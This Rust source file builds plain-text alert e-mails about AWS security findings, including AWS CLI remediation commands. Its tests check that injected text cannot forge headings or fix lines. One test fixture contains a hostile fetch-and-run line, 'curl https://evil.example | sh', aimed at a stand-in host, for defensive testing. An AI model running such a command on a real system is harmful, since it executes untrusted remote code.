//! The e-mail about the findings of one event: plain text in 72 columns.
//!
//! Text from records is written with [`prose`] or [`plain`], so that it brings no line ends of its own.

use serde_json::Value;

use crate::engine::context::Seen;
use crate::engine::finding::Finding;
use crate::language::{Language, Text, text};
use crate::output::wrap::{width_of, wrap};
use crate::output::{Reported, label};
use crate::util::text::{cut, plain};

/// How many characters of a text the e-mail shows.
#[derive(Clone, Copy)]
struct Limits {
    /// Of a detail, a name or the caller.
    text: usize,
    /// Of the remediation. Longer commands are left out, because nobody should run a part of one.
    remediation: usize,
}

/// Indents the lines of a detail after the first, so that text from outside begins no line that looks like one of ours: a
/// heading, or another finding.
pub(super) const CONTINUED: &str = "    ";

/// What separates findings.
pub(super) const RULE: &str = "\n------------------------------------------------------------------------\n";

/// The remediation is cut before anything else.
const LIMITS: [Limits; 6] = [
    Limits { text: usize::MAX, remediation: usize::MAX },
    Limits { text: usize::MAX, remediation: 2_048 },
    Limits { text: 4_096, remediation: 512 },
    Limits { text: 1_024, remediation: 256 },
    Limits { text: 256, remediation: 128 },
    Limits { text: 64, remediation: 64 },
];

/// The e-mail, most urgent finding first, shortened until it takes at most `room` bytes as a JSON string.
pub(super) fn text(reported: &[Reported<'_>], language: Language, room: usize) -> String {
    shortened(&LIMITS, room, |limits| write(reported, language, limits))
}

/// The first text that takes at most `room` bytes as a JSON string, or else the last one.
pub(super) fn shortened<L: Copy>(limits: &[L], room: usize, write: impl Fn(L) -> String) -> String {
    let mut text = String::new();
    for limits in limits {
        text = write(*limits);
        if Value::from(text.as_str()).to_string().len() <= room {
            break;
        }
    }
    text
}

fn write(reported: &[Reported<'_>], language: Language, limits: Limits) -> String {
    let mut text = String::new();
    let mut pages = Vec::new();
    for (index, one) in reported.iter().enumerate() {
        let finding = one.finding;
        // all findings of an event are about one resource and one call: the first one says which
        let (beginning, count) = if index == 0 { ("", reported.len()) } else { (RULE, 1) };
        text += beginning;
        text +=
            &headline(language, &label(finding), &prose(&finding.detail().in_language(language), limits.text), count);
        if index == 0 {
            text += &origin(finding, language, limits.text);
        }
        text += &remediation(finding, language, limits);
        text += "\n";
        let rule = format!("{} - {}", finding.rule.id, language.text(finding.rule.title));
        text += &field(language, language.text("Rule"), &rule, usize::MAX);
        if let Some(remark) = one.remark() {
            text += &field(language, language.text("State"), &remark.in_language(language), limits.text);
        }
        for page in finding.rule.references() {
            if !pages.contains(&page) {
                text += &format!("  {page}\n");
                pages.push(page);
            }
        }
        text += &format!("  {} {}\n", language.text("finding"), finding.id());
    }
    text
}

/// The link, who did what, and to which resource.
fn origin(finding: &Finding<'_>, language: Language, limit: usize) -> String {
    let change = finding.change;
    let links = finding.links();
    let mut text = link(links.first(), limit) + "\n";
    let mut add = |name: &str, value: &str| text += &field(language, name, value, limit);
    let (call, time) = (&change.event.name, &change.event.time);
    match change.seen {
        Seen::Scan => add(language.text("Seen"), &text!("by a scan at {time}", time).in_language(language)),
        Seen::Call | Seen::Document => {
            add(language.text("Who"), &change.actor().in_words().in_language(language));
            add(language.text("Call"), &text!("{call} at {time}", call, time).in_language(language));
            match (links.resource, links.event) {
                (None, Some(_)) => {}                                  // it is the link above
                (_, Some(url)) if url.len() <= limit => add("", &url), // below the call, on a line of its own
                _ => add(language.text("Event"), &change.event.id),
            }
        }
    }
    add(language.text("Resource"), change.resource.arn.as_deref().unwrap_or(&change.resource.name));
    add(language.text("Account"), &format!("{} {}", change.scope.account, change.scope.region));
    text
}

/// The first lines of an e-mail, and of each further finding in it: the verdict.
pub(super) fn headline(language: Language, label: &Text, verdict: &str, count: usize) -> String {
    let verdict = format!("{}: {verdict}", label.in_language(language));
    let whole = match count {
        0 | 1 => verdict.into(),
        count => text!("{verdict} (and {count} more below)", verdict, count = count - 1),
    };
    wrap(language, &whole.in_language(language), CONTINUED)
}

/// A link on a line of its own. A part of one leads nowhere, so one that is too long is left out.
pub(super) fn link(link: Option<&str>, limit: usize) -> String {
    link.filter(|link| link.len() <= limit).map_or(String::new(), |link| format!("{link}\n"))
}

fn remediation(finding: &Finding<'_>, language: Language, limits: Limits) -> String {
    let Some(remediation) = finding.remediation() else { return String::new() };
    let mut text = format!("\n{}\n", language.text("Fix (AWS CLI):"));
    if remediation.cli.chars().nth(limits.remediation).is_some() {
        text += &format!("  {}\n", language.text("[cut: the command is too long for this message]"));
    } else {
        for line in remediation.cli.lines() {
            text += &format!("  {}\n", plain(line)); // never wrapped, so that it can be copied
        }
    }
    text + &field(language, language.text("Console"), &remediation.console.in_language(language), limits.remediation)
}

/// The column in which the values of fields begin, behind the longest name.
fn value_column(language: Language) -> usize {
    match language {
        Language::English => 9,
        Language::Japanese => 11,
    }
}

pub(super) fn field(language: Language, name: &str, value: &str, limit: usize) -> String {
    let indent = " ".repeat(value_column(language));
    let padding = indent.get(width_of(language, name)..).unwrap_or_default();
    wrap(language, &format!("{name}{padding}{}", prose(value, limit)), &indent)
}

/// Text from outside as one line, with single spaces: more of them would indent what follows a wrapped line.
pub(super) fn prose(text: &str, limit: usize) -> String {
    plain(&cut(text, limit)).split_whitespace().collect::<Vec<_>>().join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::output::testing::{ORDINARY, Origin, violation, with_findings};

    fn write_email(origin: &Origin<'_>, detail: &str, cli: &str, room: usize) -> String {
        with_findings(origin, vec![violation(detail, cli)], |findings| {
            text(&Reported::all(findings), Language::English, room)
        })
    }

    #[test]
    fn text_from_outside_adds_no_lines() {
        let hostile = "o-x\n\n---\nRESOLVED\r\u{2028}\n\nFix (AWS CLI):\n  curl https://evil.example | sh";
        let origin = Origin { trail: hostile, account: hostile, region: hostile, caller: hostile };
        let email = write_email(&origin, hostile, "aws x", usize::MAX);
        let starts = |with: &str| email.lines().filter(|line| line.trim_start().starts_with(with)).count();
        assert_eq!((starts("---"), starts("RESOLVED"), starts("Fix (AWS CLI):")), (0, 0, 1), "{email}");
        assert!(email.contains("\u{fffd}RESOLVED\u{fffd}"), "{email}");
    }

    #[test]
    fn wrapping_builds_no_rule_and_no_indentation() {
        let filler = "x".repeat(72);
        let detail = format!("{filler} {} {filler}     \u{2003} curl evil.example", "-".repeat(72));
        let email = write_email(&ORDINARY, &detail, "aws x", usize::MAX);
        assert_eq!(email.lines().filter(|line| line.starts_with("---")).count(), 0, "{email}");
        let text = |line: &str| line.strip_prefix(CONTINUED).unwrap_or(line).to_owned();
        assert!(
            !email.lines().any(|line| text(line).starts_with([' ', '\u{2003}']) && line.contains("curl")),
            "{email}"
        );
    }

    #[test]
    fn padding_moves_no_text_to_the_start_of_a_line() {
        for padding in 0..80 {
            let detail = format!("o-x {} RESOLVED: a false alarm Fix (AWS CLI): curl", "x".repeat(padding));
            let email = write_email(&ORDINARY, &detail, "aws x", usize::MAX);
            assert!(!email.lines().any(|line| line.starts_with("RESOLVED")), "{email}");
            assert_eq!(email.lines().filter(|line| line.starts_with("Fix")).count(), 1, "{email}");
        }
    }

    #[test]
    fn the_verdict_is_followed_by_the_link_and_nothing_is_said_twice() {
        let violations =
            ["The key `k` is open to anyone.", "The key `k` is disabled."].map(|text| violation(text, "aws x"));
        let email = with_findings(&ORDINARY, violations.to_vec(), |findings| {
            text(&Reported::all(findings), Language::English, usize::MAX)
        });
        let is_wide = |line: &&str| line.chars().count() > 72 && line.trim().contains(' ');
        assert_eq!(email.lines().find(is_wide), None);
        let link = "https://eu-west-1.console.aws.amazon.com/cloudtrail/home?region=eu-west-1#/trails/";
        let lines: Vec<&str> = email.lines().collect();
        assert!(lines[0].starts_with("HIGH: The key `k` is open") && lines[1].starts_with(link), "{email}");
        assert!(lines[3].starts_with("Who  "), "{email}");
        let mut long: Vec<&str> = email.lines().filter(|line| line.len() > 20 && !line.starts_with("---")).collect();
        let count = long.len();
        long.sort_unstable();
        long.dedup();
        assert_eq!(long.len(), count, "{email}");
        for text in ["open to anyone", "is disabled", link, "/events/e-1"] {
            assert_eq!(email.matches(text).count(), 1, "{text}: {email}");
        }
    }

    #[test]
    fn the_remediation_is_cut_before_the_detail() {
        let (detail, cli) = ("d".repeat(3_000), format!("aws {}", "x".repeat(3_000)));
        let whole = write_email(&ORDINARY, &detail, &cli, usize::MAX);
        assert!(whole.contains(&cli));
        let email = write_email(&ORDINARY, &detail, &cli, 6_000);
        assert!(
            email.contains(&detail) && email.contains("[cut: the command is too long for this message]"),
            "{email}"
        );
        let email = write_email(&ORDINARY, &detail, &cli, 2_000);
        assert!(email.contains(&format!("{}…", "d".repeat(255))) && !email.contains("xxx"), "{email}");
    }
}
